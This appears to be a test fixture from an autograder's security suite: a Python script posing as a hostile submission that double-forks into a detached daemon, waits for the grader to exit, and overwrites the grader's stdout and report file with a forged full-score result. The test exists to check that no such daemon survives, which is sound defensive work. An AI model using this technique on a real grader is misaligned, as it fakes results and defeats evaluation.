# A hostile submission (docs/SECURITY.md): it leaves a daemon behind
# (double fork, setsid) that waits for the grader to finish and then writes
# a full score over the report, through the grader's /proc/PID/fd/1 and
# through the report's path. argv[1]: the report's path; argv[2]: a file
# where each daemon writes its pid (the test checks that none is alive).
# (Each pid as the grader sees it, /proc/self, whatever PID namespace the process is in.)
import os
import sys
import time

sys.stdin.buffer.read()
grader = os.getppid()
ready, told = os.pipe()
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        try:
            with open(sys.argv[2], "a") as f:
                f.write(f"{int(os.readlink('/proc/self'))}\n")
        except OSError:
            pass
        os.write(told, b"x")  # the pid is written: the program may end
        forged = b'{"tests": [{"score": 1, "max_score": 1, "status": "passed", "name": "forged"}]}\n'
        deadline = time.time() + 20
        while time.time() < deadline and os.path.exists(f"/proc/{grader}"):
            time.sleep(0.05)
        for target in (f"/proc/{grader}/fd/1", sys.argv[1]):
            try:
                with open(target, "wb") as f:
                    f.write(forged)
            except OSError:
                pass
        os._exit(0)
    os._exit(0)
os.close(told)
os.read(ready, 1)
